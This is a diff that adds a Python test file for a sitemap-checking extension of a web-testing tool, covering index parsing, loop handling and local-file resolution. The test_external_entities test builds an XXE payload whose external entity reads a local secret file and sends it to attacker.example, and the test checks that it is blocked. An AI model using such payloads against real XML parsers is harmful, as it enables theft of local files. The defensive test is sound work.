@@ -0,0 +1,110 @@
+import os
+import gzip
+import shutil
+import tempfile
+from StringIO import StringIO
+
+from twine import commands, set_output, linkcheck
+from twine.errors import TwineAssertionError
+from twine.extensions import check_links
+from twine.extensions import sitemap_check as sitemap
+from twine.extensions.sitemap_check import iter_sitemap, sitemap_check
+
+base = 'http://127.0.0.1:5000'
+
+index = """<?xml version="1.0" encoding="UTF-8"?>
+<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
+  <sitemap><loc>%s</loc></sitemap>
+  <sitemap><loc>%s</loc></sitemap>
+</sitemapindex>
+"""
+
+urlset = """<?xml version="1.0" encoding="UTF-8"?>
+<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
+%s</urlset>
+"""
+
+class TestSitemap:
+    def setUp(self):
+        self.dir = tempfile.mkdtemp()
+        self.session = linkcheck.make_session(1)
+        set_output(StringIO())
+        commands.reset_browser('http')
+        check_links.bad_links_dict.clear()
+    def tearDown(self):
+        commands.config('check_links.only_collect_bad_links', '0')
+        set_output(None)
+        commands.reset_browser()
+        shutil.rmtree(self.dir)
+    def write(self, name, content):
+        path = os.path.join(self.dir, name)
+        if name.endswith('.gz'):
+            fp = gzip.open(path, 'wb')
+        else:
+            fp = open(path, 'w')
+        fp.write(content)
+        fp.close()
+        return path
+    def test_iter_sitemap(self):
+        many = self.write('many.xml.gz', urlset % "".join(
+            [ '<url><loc> http://a.com/%d </loc></url>\n' % i
+              for i in range(5000) ]))
+        path = self.write('index.xml', index % (base + '/sitemap.xml', many))
+        urls = list(iter_sitemap(self.session, path))
+        assert urls[:3] == [base + '/', base + '/link', base + '/missing']
+        assert urls[3:] == [ 'http://a.com/%d' % i for i in range(5000) ]
+    def test_external_entities(self):
+        secret = self.write('secret.txt', 'SECRET-TOKEN')
+        path = self.write('evil.xml', '''<?xml version="1.0"?>
+<!DOCTYPE urlset [ <!ENTITY x SYSTEM "file://%s"> ]>
+<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
+  <url><loc>http://attacker.example/?d=&x;</loc></url>
+</urlset>
+''' % (secret,))
+        urls = list(iter_sitemap(self.session, path))
+        assert not [ u for u in urls if 'SECRET' in u ], urls
+    def test_local_files(self):
+        # an index on the web can't list local files (a path is on the
+        # index's server)...
+        secret = self.write('secret.xml', urlset %
+                            '<url><loc>http://secret.example/</loc></url>')
+        assert sitemap._listed_sitemap(base + '/index.xml', secret) == \
+               base + secret
+        assert sitemap._listed_sitemap(base + '/index.xml',
+                                       'file://' + secret) is None
+        assert sitemap._listed_sitemap(base + '/a/index.xml', 'b.xml') == \
+               base + '/a/b.xml'
+        # ...but a local one can.
+        path = os.path.join(self.dir, 'index.xml')
+        assert sitemap._listed_sitemap(path, 'secret.xml') == secret
+    def test_loops(self):
+        # an index listing itself, or another index listing it back.
+        first = os.path.join(self.dir, 'first.xml')
+        second = self.write('second.xml', index %
+                            (first, base + '/sitemap.xml'))
+        self.write('first.xml', index % (first, second))
+        urls = list(iter_sitemap(self.session, first))
+        assert urls == []           # second.xml is an index: not followed
+        self.write('first.xml', index % (first, base + '/sitemap.xml'))
+        urls = list(iter_sitemap(self.session, first))
+        assert urls == [base + '/', base + '/link', base + '/missing']
+    def test_check(self):
+        try:
+            sitemap_check(base + '/sitemap.xml')
+        except TwineAssertionError:
+            pass
+        else:
+            assert False
+        sitemap_check(base + '/sitemap.xml', '0')
+    def test_collect(self):
+        commands.config('check_links.only_collect_bad_links', '1')
+        sitemap_check(base + '/sitemap.xml')
+        assert check_links.bad_links_dict == \
+               {base + '/missing': [base + '/sitemap.xml']}
+    def test_missing_sitemap(self):
+        try:
+            list(iter_sitemap(self.session, base + '/nosuchsitemap.xml'))
+        except IOError:
+            pass
+        else:
+            assert False